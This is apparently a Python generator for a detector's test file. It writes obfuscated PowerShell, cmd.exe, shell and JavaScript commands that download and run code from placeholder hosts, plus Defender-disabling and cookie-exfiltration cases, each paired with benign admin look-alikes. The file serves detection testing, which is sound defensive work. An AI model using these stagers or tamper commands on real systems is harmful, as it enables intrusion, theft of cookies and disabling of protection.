"""Write tests/data/cases/interpret.jsonl: obfuscated commands and their benign look-alikes.

Our own cases, written from techniques (not copied from any collection): each malicious case
hides a download-and-run, a lookup of its command name or a protection switch behind one trick
that the interpreter (app/detection/interpret) must see through, for PowerShell, cmd.exe, POSIX
shells and browser JavaScript. The benign cases use the same syntax for ordinary work: format
strings, -join, variables, pipes, ordinary JavaScript.

Deterministic: `python tests/data/cases/make_interpret.py` rewrites the same file byte for byte;
tests/app/detection/interpret/test_cases.py checks that, and every case's verdict.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable
from pathlib import Path

OUT = Path(__file__).with_name("interpret.jsonl")

# Hosts that cannot be anyone's (reserved names and documentation addresses).
URLS = (
    "https://cdn-verify.test/s/gate.ps1",
    "https://captcha-check.invalid/v2/run",
    "http://198.51.100.23/p/a.txt",
    "https://update-portal.example/x/loader",
    "https://files-sync.test/d/7f3a/stage2",
    "http://203.0.113.77:8080/k",
)
SH_URLS = (
    "https://dl-mac-helper.test/install.sh",
    "http://198.51.100.41/i",
    "https://brew-fix.invalid/setup",
    "https://pkg-mirror.example/get.sh",
)
JS_URLS = (
    "https://cdn-stats.test/a.js",
    "https://lib-cache.invalid/jq.min.js",
    "https://203.0.113.9/p.js",
)

Case = dict[str, str]


def _u16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _split(text: str, parts: int = 3) -> list[str]:
    step = max(1, len(text) // parts)
    return [text[i : i + step] for i in range(0, len(text), step)]


# -- PowerShell: each takes a URL and returns a command that downloads and runs it ---------------

PS: dict[str, Callable[[str], str]] = {
    "ps-gal-wildcard": lambda u: f"& (gal i*x) (irm '{u}')",
    "ps-gal-charclass": lambda u: f"$c = irm '{u}'; & (Get-Alias [h-j]e[w-y]) $c",
    "ps-gcm-wildcard": lambda u: f"$u='{u}'; & (gcm *stM*) $u | & (gal ?e?)",
    "ps-gcm-invoke-expression": lambda u: (
        f"& (Get-Command *ke-Ex*) ((New-Object Net.WebClient).DownloadString('{u}'))"
    ),
    "ps-dir-system32-curl": lambda u: (
        f"& (dir \\W*\\*32\\c??l.e*) -s {u} -o $env:TEMP\\svc.exe; saps $env:TEMP\\svc.exe"
    ),
    "ps-gi-system32-mshta": lambda u: f"& (gi C:\\W*\\S*m32\\m*ta.e*) {u}",
    "ps-concat-url": lambda u: "iex (irm (" + "+".join(f"'{p}'" for p in _split(u, 4)) + "))",
    "ps-concat-command": lambda u: f"&('i'+'ex') (&('i'+'rm') '{u}')",
    "ps-format-operator": lambda u: (
        "iex (irm ('{1}{0}{2}' -f "
        + ",".join(f"'{p}'" for p in (_split(u)[1], _split(u)[0], "".join(_split(u)[2:])))
        + "))"
    ),
    "ps-format-command": lambda u: (
        f".('{{1}}{{0}}' -f 'x','ie') (.('{{0}}{{1}}' -f 'ir','m') '{u}')"
    ),
    "ps-char-codes": lambda u: (
        "iex (irm (-join (" + ",".join(str(ord(c)) for c in u) + " | % {[char]$_})))"
    ),
    "ps-char-casts": lambda u: (
        "$x=" + "+".join(f"[char]{ord(c)}" for c in "iex") + f"; &$x (irm '{u}')"
    ),
    "ps-reversed-index": lambda u: f"$r='{u[::-1]}'; iex (irm (-join $r[-1..-{len(u)}]))",
    "ps-array-reverse": lambda u: (
        f"$a='{u[::-1]}'.ToCharArray(); [array]::Reverse($a); iex (irm (-join $a))"
    ),
    "ps-replace-junk": lambda u: f"iex (irm ('{u.replace('/', '/QZ')}' -replace 'QZ',''))",
    "ps-dotnet-replace": lambda u: f"iex (irm ('{u.replace('.', '#~')}'.Replace('#~','.')))",
    "ps-base64-utf8": lambda u: (
        f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{_b64(f'irm {u} | iex')}')))"
    ),
    "ps-base64-unicode": lambda u: (
        f"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{_u16(f'iwr {u} -UseBasicParsing | iex')}')))"
    ),
    "ps-env-staging": lambda u: f"$env:q='{u}'; .($env:public[13]+$env:public[5]+'x') (irm $env:q)",
    "ps-pshome-letters": lambda u: f"&($pshome[4]+$pshome[30]+'x') (irm '{u}')",
    "ps-hex-string": lambda u: (
        f"iex (irm (-join ('{u.encode().hex()}' -split '(..)' | ? {{$_}} | % {{[char][convert]::ToInt32($_,16)}})))"
    ),
    "ps-url-escaped": lambda u: (
        f"iex (irm ([Uri]::UnescapeDataString('{''.join(f'%{b:02x}' for b in u.encode())}')))"
    ),
    "ps-xor-bytes": lambda u: (
        "iex (irm (-join ([byte[]]("
        + ",".join(str(b ^ 23) for b in u.encode())
        + ") | % {[char]($_ -bxor 23)})))"
    ),
    "ps-executioncontext": lambda u: (
        f"& ($ExecutionContext.InvokeCommand.GetCommandName('*ke-R*od',1,1)) '{u}' | & ($ExecutionContext.InvokeCommand.GetCommandName('I*-Ex*',1,1))"
    ),
    "ps-set-alias": lambda u: f"sal g iex; sal w irm; $u = '{u}'; $c = w $u; g $c",
    "ps-webclient-split": lambda u: (
        f"$w=New-Object ('Net.'+'WebClient'); $s=$w.('Download'+'String')('{u}'); iex $s"
    ),
    "ps-scriptblock": lambda u: f"[ScriptBlock]::Create((irm ('{u[:9]}'+'{u[9:]}'))).Invoke()",
    "ps-string-indexing": lambda u: f"$k='xiey'; &($k[1]+$k[2]+$k[0]) (irm '{u}')",
    "ps-substring": lambda u: f"$m='aaInvoke-ExpressionZZ'; &($m.Substring(2,17)) (irm '{u}')",
    "ps-variable-url": lambda u: (
        f"$h='{u.split('/')[2]}'; $p='{'/'.join(u.split('/')[3:])}'; iex (irm \"{u.split(':')[0]}://$h/$p\")"
    ),
    "ps-download-file-run": lambda u: (
        f"(New-Object Net.WebClient).('Downl'+'oadFile')('{u}',\"$env:APPDATA\\u.exe\"); saps \"$env:APPDATA\\u.exe\""
    ),
    "ps-deflate": lambda u: _deflate_stager(u),
    "ps-encoded-nested": lambda u: (
        f"powershell -w h -nop -enc {_u16('&(gal i*x) (irm ' + chr(39) + u + chr(39) + ')')}"
    ),
}


def _deflate_stager(url: str) -> str:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    blob = base64.b64encode(c.compress(f"iex (irm '{url}')".encode()) + c.flush()).decode()
    return (
        "iex(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream("
        f"[IO.MemoryStream][Convert]::FromBase64String('{blob}'),"
        "[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
    )


PS_TAMPER = {
    "ps-tamper-concat": "& ('Set-Mp'+'Preference') -DisableRealtimeMonitoring $true",
    "ps-tamper-format": "&('{1}{0}' -f 'Preference','Add-Mp') -ExclusionPath ('C:'+'\\')",
    "ps-tamper-gcm": "& (gcm Set-M?Pref*) -DisableIOAVProtection $true -DisableRealtimeMonitoring $true",
}

# -- cmd.exe ------------------------------------------------------------------------------------

CMD: dict[str, Callable[[str], str]] = {
    "cmd-carets-curl": lambda u: f'c^u^r^l -s -o %TEMP%\\u.exe {u} & s^t^a^r^t "" %TEMP%\\u.exe',
    "cmd-carets-mshta": lambda u: f"m^s^h^t^a {u}",
    "cmd-set-call": lambda u: f'cmd /c "set a=ms&& set b=hta&& call %a%%b% {u}"',
    "cmd-delayed-expansion": lambda u: (
        f'cmd /v:on /c "set p=power&& set q=shell&& !p!!q! -c iex(irm {u})"'
    ),
    "cmd-comspec-replace": lambda u: f"%comspec:cmd.exe=mshta.exe% {u}",
    "cmd-for-curl": lambda u: f"for /f \"tokens=*\" %i in ('curl -s {u}') do %i",
    "cmd-certutil-carets": lambda u: (
        f"c^e^r^t^u^t^i^l -urlcache -split -f {u} %TEMP%\\p.exe && %TEMP%\\p.exe"
    ),
    "cmd-echo-vbs": lambda u: (
        f'echo Set h=CreateObject("MSXML2.XMLHTTP"):h.Open "GET","{u}",0:h.Send:Set s=CreateObject("ADODB.Stream"):s.Open:s.Type=1:s.Write h.responseBody:s.SaveToFile "%TEMP%\\p.exe",2 > %TEMP%\\d.vbs'
        ' & echo CreateObject("WScript.Shell").Run "%TEMP%\\p.exe" >> %TEMP%\\d.vbs & cscript //nologo %TEMP%\\d.vbs'
    ),
    "cmd-start-min-powershell": lambda u: f'start "" /min p^owershell -w h -c "iex (irm {u})"',
}

# -- POSIX shells -------------------------------------------------------------------------------

SH: dict[str, Callable[[str], str]] = {
    "sh-quote-insertion": lambda u: f'c""url -fsSL {u} | b""ash',
    "sh-backslash": lambda u: f"c\\url -s {u} | s\\h",
    "sh-ansi-c": lambda u: "$'" + "".join(f"\\x{ord(c):02x}" for c in "curl") + f"' -fsSL {u} | sh",
    "sh-variables": lambda u: f"a=cu;b=rl;c=ba;d=sh; $a$b -s {u} | $c$d",
    "sh-substring": lambda u: f"t=xxcurlyy; ${{t:2:4}} -fsSL {u} | sh",
    "sh-base64-pipeline": lambda u: f"echo {_b64(f'curl -fsSL {u} | bash')} | base64 -d | sh",
    "sh-base64-decode-flag": lambda u: (
        f"echo '{_b64(f'wget -qO- {u} | sh')}' | base64 --decode | bash"
    ),
    "sh-xxd-rev": lambda u: (
        f"echo {f'curl -s {u} | sh'[::-1].encode().hex()} | xxd -r -p | rev | sh"
    ),
    "sh-command-substitution": lambda u: f'/bin/bash -c "$(curl -fsSL {u})"',
    "sh-process-substitution": lambda u: f"bash <(wget -qO- {u})",
    "sh-eval-rev": lambda u: f"eval \"$(echo '{f'curl -s {u} | sh'[::-1]}' | rev)\"",
    "sh-printf-hex": lambda u: (
        "$(printf '" + "".join(f"\\x{ord(c):02x}" for c in "curl") + f"') -s {u} | zsh"
    ),
}

# -- JavaScript (console) -----------------------------------------------------------------------

JS: dict[str, Callable[[str], str]] = {
    "js-fetch-eval-concat": lambda u: (
        f"fetch('{u[:12]}'+'{u[12:]}').then(r => r.text()).then(eval)"
    ),
    "js-fetch-atob": lambda u: f"fetch(atob('{_b64(u)}')).then(r=>r.text()).then(t=>eval(t))",
    "js-getscript-bracket": lambda u: f"$['getSc'+'ript']('{u}')",
    "js-script-element-charcodes": lambda u: (
        "var s=document.createElement('script');s.src=String.fromCharCode("
        + ",".join(str(ord(c)) for c in u)
        + ");document.body.appendChild(s)"
    ),
    "js-eval-atob-loader": lambda u: (
        f"window['ev'+'al'](atob('{_b64('var s=document.createElement(' + chr(39) + 'script' + chr(39) + ');s.src=' + chr(39) + u + chr(39) + ';document.head.appendChild(s)')}'))"
    ),
    "js-function-constructor": lambda u: (
        f"new Function(atob('{_b64('fetch(' + chr(39) + u + chr(39) + ').then(r=>r.text()).then(eval)')}'))()"
    ),
}

JS_CODE = {
    "js-eval-fromcharcode-cookies": "eval(String.fromCharCode("
    + ",".join(str(ord(c)) for c in "fetch('https://collect.test/c?d='+btoa(document.cookie))")
    + "))",
    "js-bookmarklet-junk": "xx12 javascript:eval(unescape('%66%65%74%63%68%28%27%68%74%74%70%73%3a%2f%2f%63%6f%6c%6c%65%63%74%2e%74%65%73%74%2f%3f%27%2b%64%6f%63%75%6d%65%6e%74%2e%63%6f%6f%6b%69%65%29'))",
}

# -- benign look-alikes -------------------------------------------------------------------------

BENIGN = {
    "ps-admin": [
        "Write-Host ('{0} of {1} files copied' -f $done, $total)",
        "$list = Get-ChildItem C:\\Reports -Filter *.csv | ForEach-Object { $_.BaseName }; $list -join ', '",
        "Get-Service | Where-Object { $_.Status -eq 'Stopped' } | Select-Object Name, StartType",
        "$name = 'web-{0:D2}' -f $i; New-Item -ItemType Directory -Path (Join-Path $env:TEMP $name)",
        "$path = $env:USERPROFILE + '\\Documents\\report.txt'; Get-Content $path | Select-Object -First 10",
        "[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('user:' + $token))",
        "$parts = 'a;b;c' -split ';'; $parts[0].ToUpper()",
        "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5 | Format-Table -AutoSize",
        "$s = 'Hello World'; $s.Replace('World', 'PowerShell').Substring(0, 5)",
        "Invoke-WebRequest -Uri https://www.powershellgallery.com/api/v2 -UseBasicParsing | Select-Object StatusCode",
        "$date = Get-Date -Format 'yyyy-MM-dd'; Compress-Archive -Path .\\logs -DestinationPath \".\\logs-$date.zip\"",
        "Get-ChildItem -Recurse -Include *.tmp | Remove-Item -WhatIf",
        '$users = Import-Csv users.csv; foreach ($u in $users) { Write-Output ("{0} <{1}>" -f $u.Name, $u.Mail) }',
        "Set-ExecutionPolicy -Scope CurrentUser RemoteSigned",
        "$env:PATH -split ';' | Where-Object { $_ -like '*Python*' }",
        "[System.IO.Path]::Combine($env:APPDATA, 'Code', 'User', 'settings.json')",
        "Get-Alias | Where-Object { $_.Definition -eq 'Get-ChildItem' }",
        "Get-Command -Module Microsoft.PowerShell.Management | Measure-Object",
        "$chars = 'abc'.ToCharArray(); [array]::Reverse($chars); -join $chars",
        "dir C:\\Windows\\System32\\*.msc | Select-Object Name",
    ],
    "sh-admin": [
        'for f in *.jpg; do convert "$f" "${f%.jpg}.png"; done',
        'name="${USER:-guest}"; echo "Hello, $name"',
        "tar -czf backup-$(date +%F).tar.gz ~/projects",
        "echo 'aGVsbG8K' | base64 -d",
        "git diff --stat | tail -1",
        'export PATH="$HOME/.cargo/bin:$PATH"',
        "find . -type f -name '*.log' -mtime +7 -exec rm {} \\;",
        'v=1.2.3; echo "${v//./-}"',
        "cat access.log | awk '{print $1}' | sort | uniq -c | sort -rn | head",
        "python3 -m venv .venv && . .venv/bin/activate && pip install -r requirements.txt",
        'printf "%s\\n" "$PWD"',
        "ssh -i ~/.ssh/id_ed25519 deploy@10.0.0.5 'sudo systemctl restart app'",
        "docker ps --format '{{.Names}}' | xargs -n1 docker inspect",
        "echo $SHELL | rev",
    ],
    "cmd-admin": [
        "set PATH=%PATH%;C:\\Tools && where git",
        'for %f in (*.txt) do type "%f"',
        "echo %USERNAME% logged on at %TIME% >> %TEMP%\\logon.txt",
        'ipconfig /all | findstr /i "IPv4"',
        'cmd /c "cd /d %USERPROFILE% && dir /b"',
        "robocopy C:\\Data D:\\Backup /MIR /R:1 /W:1",
        "set LOG=%TEMP%\\setup.log & echo started > %LOG%",
        'start "" notepad.exe %APPDATA%\\app\\config.ini',
    ],
    "js-code": [
        "const total = cart.items.map(i => i.price * i.qty).reduce((a, b) => a + b, 0);",
        "document.querySelectorAll('img').forEach(img => { img.loading = 'lazy'; });",
        "fetch('/api/orders?limit=10').then(r => r.json()).then(rows => render(rows));",
        "const slug = title.toLowerCase().split(' ').join('-');",
        "console.log(JSON.stringify({a: 1, b: [1, 2, 3]}, null, 2))",
        "const s = document.createElement('style'); s.textContent = 'body{margin:0}'; document.head.appendChild(s);",
        "setTimeout(() => location.reload(), 5000)",
        "String.fromCharCode(72, 105)",
        "[...'hello'].reverse().join('')",
        "localStorage.setItem('theme', 'dark')",
    ],
}


def cases() -> list[Case]:
    out: list[Case] = []

    def add(case_id: str, text: str, expect: str, technique: str, platform: str) -> None:
        out.append(
            {
                "id": case_id,
                "text": text,
                "expect": expect,
                "technique": technique,
                "platform": platform,
            }
        )

    for technique, build in PS.items():
        for i, url in enumerate(URLS):
            add(f"i-{technique}-{i + 1}", build(url), "malicious", technique, "windows")
    for technique, text in PS_TAMPER.items():
        add(f"i-{technique}-1", text, "malicious", technique, "windows")
    for technique, build in CMD.items():
        for i, url in enumerate(URLS[:4]):
            add(f"i-{technique}-{i + 1}", build(url), "malicious", technique, "windows")
    for technique, build in SH.items():
        # written out in full, these two are what honest installers look like: a content-only
        # verdict can say suspicious, not more (context decides the rest)
        plain = technique in ("sh-command-substitution", "sh-process-substitution")
        for i, url in enumerate(SH_URLS):
            expect = "flagged" if plain else "malicious"
            add(f"i-{technique}-{i + 1}", build(url), expect, technique, "macos")
    for technique, build in JS.items():
        for i, url in enumerate(JS_URLS):
            add(f"i-{technique}-{i + 1}", build(url), "malicious", technique, "browser")
    for technique, text in JS_CODE.items():
        add(f"i-{technique}-1", text, "flagged", technique, "browser")
    for kind, texts in BENIGN.items():
        platform = {"ps-admin": "windows", "cmd-admin": "windows", "sh-admin": "linux"}.get(
            kind, "browser"
        )
        for i, text in enumerate(texts):
            add(f"b-interp-{kind}-{i + 1}", text, "not_flagged", kind, platform)
    return out


CASES = cases()


if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
